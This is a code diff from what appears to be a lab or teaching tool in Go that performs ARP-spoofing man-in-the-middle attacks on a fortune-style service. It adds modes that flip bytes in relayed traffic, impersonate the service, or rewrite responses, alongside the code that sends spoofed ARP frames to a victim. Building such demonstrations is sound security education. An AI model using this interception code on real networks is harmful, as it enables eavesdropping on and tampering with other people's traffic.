@@ -71,15 +71,9 @@ func (a *Attack) Run(ctx context.Context) error {
 	}
 	defer undo()
 	a.Logf("intercepting %s:%d", a.Service, a.Port)
-	relay := &Relay{
-		Upstream:   netip.AddrPortFrom(a.Service, a.Port).String(),
-		Rewrite:    Rewrite,
-		OnTampered: func(t Tampered) { a.Logf("%s", TamperedLine(t)) },
-		OnError:    func(err error) { a.Logf("relay error: %v", err) },
-	}
 	relayCtx, stopRelay := context.WithCancel(context.Background())
 	relayDone := make(chan error, 1)
-	go func() { relayDone <- relay.Serve(relayCtx, ln) }()
+	go func() { relayDone <- a.serve(relayCtx, ln) }()
 
 	poison := []ARPFrame{
 		Spoof(ifc.HardwareAddr, a.Service, victimMAC, a.Victim),
@@ -132,6 +126,32 @@ loop:
 		time.Sleep(50 * time.Millisecond)
 	}
 	return runErr
+}
+
+// serve does what the attack's mode does with every connection it takes.
+func (a *Attack) serve(ctx context.Context, ln net.Listener) error {
+	upstream := netip.AddrPortFrom(a.Service, a.Port).String()
+	onError := func(err error) { a.Logf("relay error: %v", err) }
+	switch a.Mode {
+	case ModeFlip:
+		return (&FlipRelay{Upstream: upstream, OnError: onError, OnFlipped: func(c net.Addr, n int) {
+			a.Logf("flipped %s %d", c, n)
+		}}).Serve(ctx, ln)
+	case ModeImpersonate:
+		return (&Impersonator{Fortune: Rewrite("mallory has a fortune of its own.\n"), OnHandshake: func(c net.Addr, err error) {
+			if err != nil {
+				a.Logf("impersonation %s refused: %v", c, err)
+				return
+			}
+			a.Logf("impersonation %s accepted", c)
+		}}).Serve(ctx, ln)
+	}
+	return (&Relay{
+		Upstream:   upstream,
+		Rewrite:    Rewrite,
+		OnTampered: func(t Tampered) { a.Logf("%s", TamperedLine(t)) },
+		OnError:    onError,
+	}).Serve(ctx, ln)
 }
 
 // iface finds mallory's interface on the wire and its address there.
